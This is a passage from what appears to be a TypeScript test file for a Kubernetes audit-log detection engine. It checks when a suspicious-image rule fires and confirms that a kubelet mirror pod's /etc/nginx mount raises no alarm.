    const ids = (e: AuditEvent) => new DetectionEngine(site, { clusterName: 'test', clusterId: '' }).hits(e).map((h) => h.ruleId);
    expect(ids(ev(miner))).toContain('KA-CONT-011');
    expect(ids(ev(mixed))).toContain('KA-CONT-011');
    expect(ids(ev(corp))).not.toContain('KA-CONT-011');
    expect(ids(ev({ ...controller('replicaset-controller'), ...miner }))).not.toContain('KA-CONT-011');
    expect(ids(ev({ ...miner, ...forbidden('forbidden') }))).not.toContain('KA-CONT-011');
    const hit = new DetectionEngine(site, { clusterName: 'test', clusterId: '' }).hits(ev(mixed)).find((h) => h.ruleId === 'KA-CONT-011')!;
    expect(hit.summary).toBe('breakglass create pods payments/p with images registry.corp.example/img/optimizer,docker.io/library/busybox');
  });

  it('does not alarm on a kubelet\'s mirror pod with its read-only /etc/nginx mount', () => {
    // kubespray's API server proxy on every node: a static pod named nginx-proxy-<node>.
    const mirror = ev({ ...node2, ...createPod({ nodeName: 'node-2', volumes: [{ name: 'etc-nginx', hostPath: { path: '/etc/nginx' } }] }, { namespace: 'kube-system', annotations: { 'kubernetes.io/config.mirror': '041b0886' } },
      { objectRef: { resource: 'pods', namespace: 'kube-system', name: 'nginx-proxy-node-2', apiVersion: 'v1' } }) });
    expect(ruleIds(mirror)).toEqual([]);
  });
});
